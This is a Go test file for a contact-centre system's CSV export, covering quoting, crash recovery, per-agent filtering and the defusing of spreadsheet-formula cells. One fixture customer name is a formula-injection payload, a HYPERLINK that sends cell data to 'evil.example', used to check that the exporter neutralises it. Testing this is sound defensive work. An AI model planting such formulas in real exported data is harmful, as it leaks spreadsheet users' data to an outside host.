package activities_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"go.temporal.io/sdk/temporal"
	"golang.org/x/sync/errgroup"

	"switchboard/activities"
	"switchboard/pgstore"
	"switchboard/routing"
)

// readCSV parses an export file and answers its header and rows by interaction ID.
func readCSV(t *testing.T, raw []byte) (header []string, rows map[string]map[string]string, order []string) {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, raw)
	}
	if len(recs) == 0 {
		t.Fatal("the export has no header")
	}
	header, rows = recs[0], map[string]map[string]string{}
	for _, rec := range recs[1:] {
		row := map[string]string{}
		for i, v := range rec {
			row[header[i]] = v
		}
		rows[row["interactionId"]] = row
		order = append(order, row["interactionId"])
	}
	return header, rows, order
}

// exportTenant is a tenant with interactions whose text needs escaping.
type exportTenant struct {
	tenant, agent, queue  string
	call, chat, abandoned string
	t0                    time.Time
}

func newExportTenant(t *testing.T) exportTenant {
	t.Helper()
	ctx := testContext(t)
	x := exportTenant{t0: time.Date(2026, 5, 4, 10, 0, 0, 0, time.UTC)}
	x.tenant, x.agent = newAgent(t)
	var err error
	if x.queue, err = store.DefaultQueueID(ctx, x.tenant); err != nil {
		t.Fatal(err)
	}
	add := func(ch routing.Channel, at time.Time, name, phone string, tags []string) string {
		id := uuid.NewString()
		in := pgstore.Interaction{ID: id, TenantID: x.tenant, WorkflowID: "interaction/" + id, Channel: ch, Direction: pgstore.Inbound,
			QueueID: x.queue, CustomerName: name, CustomerPhone: phone, Customer: phone, Tags: tags,
			InteractionState: pgstore.InteractionState{Status: pgstore.InteractionQueued, QueuedAt: at, Version: 1}, CreatedAt: at}
		if _, err := store.EnqueueInteraction(ctx, in); err != nil {
			t.Fatal(err)
		}
		return id
	}
	ptr := func(d time.Duration) *time.Time { v := x.t0.Add(d); return &v }
	x.call = add(routing.Voice, x.t0, `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+385 91 234 5678", []string{"vip", "renewal"})
	// Held 90 s with 20 s on hold, then disposed 15 s later with notes on two lines.
	if _, err := store.RecordInteraction(ctx, pgstore.InteractionUpdate{TenantID: x.tenant, InteractionID: x.call,
		State: pgstore.InteractionState{Status: pgstore.InteractionDisposed, AgentID: x.agent, Offers: 1, QueuedAt: x.t0,
			ConnectedAt: ptr(12 * time.Second), EndedAt: ptr(102 * time.Second), HoldSeconds: 20, Holds: 1,
			Outcome: pgstore.OutcomeCompleted, DisposedAt: ptr(117 * time.Second), DisposedBy: x.agent, Version: 4,
			Disposition: &pgstore.AppliedDisposition{ClassID: uuid.NewString(), Class: "Closed", CodeID: uuid.NewString(), Code: "Resolved",
				Notes: "Customer said: \"call me back\",\nafter 5pm"}}}); err != nil {
		t.Fatal(err)
	}
	x.chat = add(routing.LiveChat, x.t0.Add(time.Minute), "Smith, Jr.", "", nil)
	x.abandoned = add(routing.Voice, x.t0.Add(2*time.Minute), "@admin -1+1", "-", nil)
	if _, err := store.RecordInteraction(ctx, pgstore.InteractionUpdate{TenantID: x.tenant, InteractionID: x.abandoned,
		State: pgstore.InteractionState{Status: pgstore.InteractionAbandoned, QueuedAt: x.t0.Add(2 * time.Minute),
			EndedAt: ptr(2*time.Minute + 45*time.Second), Outcome: pgstore.OutcomeAbandoned, EndReason: "caller hung up", Version: 2}}); err != nil {
		t.Fatal(err)
	}
	return x
}

func (x exportTenant) request(t *testing.T, requester string, f pgstore.ExportFilter) activities.ExportRequest {
	t.Helper()
	id := uuid.NewString()
	if _, err := store.CreateExport(testContext(t), x.tenant, pgstore.Actor{}, pgstore.NewExport{ID: id, RequestedBy: requester, Filter: f}); err != nil {
		t.Fatal(err)
	}
	return activities.ExportRequest{TenantID: x.tenant, ExportID: id}
}

// An export of voice interactions holds them, newest first, with every value as
// stored: commas, quotes and line breaks quoted, values that would start a
// spreadsheet formula defused, durations derived from the times.
func TestRunExportWritesTheFilteredHistory(t *testing.T) {
	t.Parallel()
	ctx := testContext(t)
	a := newActivities(t, time.Minute)
	a.ExportDir = t.TempDir()
	x := newExportTenant(t)
	req := x.request(t, x.agent, pgstore.ExportFilter{Channel: routing.Voice})

	res, err := a.RunExport(ctx, req)
	if err != nil {
		t.Fatal(err)
	}
	ex, err := store.GetExport(ctx, x.tenant, req.ExportID)
	if err != nil {
		t.Fatal(err)
	}
	want := filepath.ToSlash(filepath.Join(x.tenant, req.ExportID+".1.csv"))
	if res.Status != pgstore.ExportCompleted || res.Rows != 2 || ex.Status != pgstore.ExportCompleted || ex.RowCount != 2 ||
		ex.FileName != want || ex.SizeBytes == nil || *ex.SizeBytes != res.SizeBytes || ex.ExpiresAt == nil ||
		!ex.ExpiresAt.Equal(res.ExpiresAt) || res.ExpiresAt.Sub(time.Now()) < activities.ExportRetention-time.Minute {
		t.Fatalf("result %+v, record %+v", res, ex)
	}
	raw, err := os.ReadFile(filepath.Join(a.ExportDir, ex.FileName))
	if err != nil {
		t.Fatal(err)
	}
	if int64(len(raw)) != res.SizeBytes {
		t.Errorf("file of %d bytes, recorded %d", len(raw), res.SizeBytes)
	}
	if !bytes.HasSuffix(raw, []byte("\r\n")) || !bytes.HasPrefix(raw, []byte("interactionId,createdAt,")) {
		t.Errorf("not CRLF-terminated CSV with the header first: %q…", raw[:min(len(raw), 60)])
	}
	header, rows, order := readCSV(t, raw)
	if !slices.Equal(header, activities.ExportColumns) {
		t.Errorf("header %v", header)
	}
	if !slices.Equal(order, []string{x.abandoned, x.call}) {
		t.Fatalf("rows %v, want the abandoned call then the call (newest first, no chat)", order)
	}
	call := rows[x.call]
	for col, v := range map[string]string{
		"customerName": `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "customerPhone": "'+385 91 234 5678",
		"createdAt": "2026-05-04T10:00:00Z", "channel": "voice", "direction": "inbound", "status": "disposed", "outcome": "completed",
		"queue": "Default", "campaign": "Default", "agentId": x.agent, "agent": "Ana", "queuedAt": "2026-05-04T10:00:00Z",
		"connectedAt": "2026-05-04T10:00:12Z", "endedAt": "2026-05-04T10:01:42Z", "waitSeconds": "12", "talkSeconds": "70",
		"holdSeconds": "20", "wrapUpSeconds": "15", "offers": "1", "dispositionClass": "Closed", "dispositionCode": "Resolved",
		"dispositionAuto": "false", "dispositionNotes": "Customer said: \"call me back\",\nafter 5pm", "notes": "0", "tags": "vip;renewal",
	} {
		if call[col] != v {
			t.Errorf("call %s = %q, want %q", col, call[col], v)
		}
	}
	gone := rows[x.abandoned]
	for col, v := range map[string]string{
		"customerName": "'@admin -1+1", "customerPhone": "'-", "status": "abandoned", "outcome": "abandoned", "agent": "",
		"connectedAt": "", "waitSeconds": "45", "talkSeconds": "", "wrapUpSeconds": "", "dispositionCode": "", "endReason": "caller hung up",
	} {
		if gone[col] != v {
			t.Errorf("abandoned call %s = %q, want %q", col, gone[col], v)
		}
	}
	// The commas and quotes of the notes are quoted in the file itself.
	if !bytes.Contains(raw, []byte(`"Customer said: ""call me back"",`+"\r\nafter 5pm\"")) {
		t.Errorf("the notes are not quoted as CSV: %s", raw)
	}
	if parts, _ := filepath.Glob(filepath.Join(a.ExportDir, x.tenant, "*.part")); len(parts) != 0 {
		t.Errorf("temporary files left: %v", parts)
	}

	// A repeat finds it completed and writes nothing.
	again, err := a.RunExport(ctx, req)
	if err != nil || again.Status != pgstore.ExportCompleted || again.Rows != 2 || !again.ExpiresAt.Equal(res.ExpiresAt) {
		t.Errorf("again: %+v, %v", again, err)
	}
	if files, _ := filepath.Glob(filepath.Join(a.ExportDir, x.tenant, "*")); len(files) != 1 {
		t.Errorf("files after a repeat: %v", files)
	}

	// Expiry removes the file, once.
	for range 2 {
		if err := a.ExpireExport(ctx, req); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := os.Stat(filepath.Join(a.ExportDir, ex.FileName)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the expired file is still there: %v", err)
	}
	if got, _ := store.GetExport(ctx, x.tenant, req.ExportID); got.Status != pgstore.ExportExpired {
		t.Errorf("after expiry %+v", got.Status)
	}
}

// A run that crashed halfway left its temporary file and its attempt behind: the
// next run is a new attempt that writes its own file, completes the export, and the
// crashed run cannot complete it any more.
func TestRunExportAfterACrash(t *testing.T) {
	t.Parallel()
	ctx := testContext(t)
	a := newActivities(t, time.Minute)
	a.ExportDir = t.TempDir()
	x := newExportTenant(t)
	req := x.request(t, x.agent, pgstore.ExportFilter{})
	crashed, err := store.StartExport(ctx, x.tenant, req.ExportID)
	if err != nil || crashed.Attempts != 1 {
		t.Fatal(crashed, err)
	}
	dir := filepath.Join(a.ExportDir, x.tenant)
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	half := filepath.Join(dir, req.ExportID+".1.csv.part")
	if err := os.WriteFile(half, []byte("interactionId,crea"), 0o600); err != nil {
		t.Fatal(err)
	}

	res, err := a.RunExport(ctx, req)
	if err != nil || res.Status != pgstore.ExportCompleted || res.Rows != 3 {
		t.Fatalf("run after the crash: %+v, %v", res, err)
	}
	ex, _ := store.GetExport(ctx, x.tenant, req.ExportID)
	if ex.Attempts != 2 || ex.FileName != x.tenant+"/"+req.ExportID+".2.csv" {
		t.Errorf("record %+v", ex)
	}
	raw, err := os.ReadFile(filepath.Join(a.ExportDir, filepath.FromSlash(ex.FileName)))
	if err != nil {
		t.Fatal(err)
	}
	if _, rows, order := readCSV(t, raw); len(rows) != 3 || order[0] != x.abandoned || order[1] != x.chat || order[2] != x.call {
		t.Errorf("rows %v", order)
	}
	if _, err := store.CompleteExport(ctx, x.tenant, req.ExportID, pgstore.ExportFile{Attempt: 1, FileName: "x", ExpiresAt: time.Now()}); !errors.Is(err, pgstore.ErrConflict) {
		t.Errorf("the crashed run completing late: %v", err)
	}
}

// An agent's export holds only their own history.
func TestRunExportOfAnAgentsOwnHistory(t *testing.T) {
	t.Parallel()
	ctx := testContext(t)
	a := newActivities(t, time.Minute)
	a.ExportDir = t.TempDir()
	x := newExportTenant(t)
	res, err := a.RunExport(ctx, x.request(t, x.agent, pgstore.ExportFilter{VisibleTo: x.agent}))
	if err != nil || res.Rows != 1 {
		t.Errorf("the agent's own export: %+v, %v; want the call they held only", res, err)
	}
	other := newUser(t, x.tenant, pgstore.RoleAgent)
	res, err = a.RunExport(ctx, x.request(t, other, pgstore.ExportFilter{VisibleTo: other}))
	if err != nil || res.Rows != 0 {
		t.Errorf("another agent's export: %+v, %v", res, err)
	}
}

// What cannot be produced is refused for good, and the export is not left running
// with a file: no directory configured, an unknown export.
func TestRunExportRefusals(t *testing.T) {
	t.Parallel()
	ctx := testContext(t)
	a := newActivities(t, time.Minute)
	x := newExportTenant(t)
	req := x.request(t, x.agent, pgstore.ExportFilter{})
	for name, r := range map[string]activities.ExportRequest{
		"no export directory": req,
		"unknown export":      {TenantID: x.tenant, ExportID: uuid.NewString()},
	} {
		_, err := a.RunExport(ctx, r)
		var app *temporal.ApplicationError
		if !errors.As(err, &app) || !app.NonRetryable() || app.Type() != activities.ErrTypeInvalidExport {
			t.Errorf("%s: %v, want a non-retryable %s", name, err, activities.ErrTypeInvalidExport)
		}
	}
	if err := a.FailExport(ctx, activities.ExportFailure{TenantID: x.tenant, ExportID: req.ExportID, Reason: "no export directory"}); err != nil {
		t.Fatal(err)
	}
	if ex, _ := store.GetExport(ctx, x.tenant, req.ExportID); ex.Status != pgstore.ExportFailed || ex.Error != "no export directory" {
		t.Errorf("failed export %+v", ex)
	}
}

// Cells are defused only where they start like a formula.
func TestCSVCells(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+2", "'=1+2"}, {"+385 1", "'+385 1"}, {"-5", "'-5"}, {"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"}, {"\r=1", "'\r=1"}, {"a=1", "a=1"}, {"", ""}, {"'quoted", "'quoted"}, {"Ana", "Ana"},
	} {
		x := pgstore.ExportRow{Interaction: pgstore.Interaction{CustomerName: tc.in}}
		rec := activities.ExportRecord(x)
		if got := rec[slices.Index(activities.ExportColumns, "customerName")]; got != tc.want {
			t.Errorf("%q → %q, want %q", tc.in, got, tc.want)
		}
	}
	if strings.Join(activities.ExportColumns, ",") == "" || len(activities.ExportRecord(pgstore.ExportRow{})) != len(activities.ExportColumns) {
		t.Error("a record has not one cell per column")
	}
}

// BenchmarkRunExport writes an export of 5000 interactions per iteration and reports rows per second.
func BenchmarkRunExport(b *testing.B) {
	const rows = 5000
	ctx := context.Background()
	slug := "t-" + uuid.NewString()[:8]
	ct, err := store.CreateTenant(ctx, pgstore.Actor{}, pgstore.NewTenant{Slug: slug, Name: slug, TimeZone: "UTC",
		Admin: pgstore.NewUser{Email: "admin@" + slug + ".test", Name: "Admin"}})
	if err != nil {
		b.Fatal(err)
	}
	tenant, admin := ct.Tenant.ID, ct.Admin.ID
	queue, err := store.DefaultQueueID(ctx, tenant)
	if err != nil {
		b.Fatal(err)
	}
	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	var g errgroup.Group
	g.SetLimit(8)
	for i := range rows {
		g.Go(func() error {
			at := t0.Add(time.Duration(i) * time.Second)
			id := uuid.NewString()
			_, err := store.EnqueueInteraction(ctx, pgstore.Interaction{ID: id, TenantID: tenant, WorkflowID: "interaction/" + id,
				Channel: routing.LiveChat, Source: "web_chat", Direction: pgstore.Inbound, QueueID: queue,
				CustomerName: fmt.Sprintf("Customer, \"%d\"", i), CustomerPhone: "+385 91 555 0100", Customer: "+385915550100",
				InteractionState: pgstore.InteractionState{Status: pgstore.InteractionQueued, QueuedAt: at, Version: 1}, CreatedAt: at})
			return err
		})
	}
	if err := g.Wait(); err != nil {
		b.Fatal(err)
	}
	a := &activities.Activities{Store: store, ExportDir: b.TempDir()}
	b.ResetTimer()
	for b.Loop() {
		id := uuid.NewString()
		if _, err := store.CreateExport(ctx, tenant, pgstore.Actor{}, pgstore.NewExport{ID: id, RequestedBy: admin}); err != nil {
			b.Fatal(err)
		}
		res, err := a.RunExport(ctx, activities.ExportRequest{TenantID: tenant, ExportID: id})
		if err != nil || res.Rows != rows {
			b.Fatalf("%+v, %v", res, err)
		}
	}
	b.ReportMetric(float64(rows*b.N)/b.Elapsed().Seconds(), "rows/s")
}
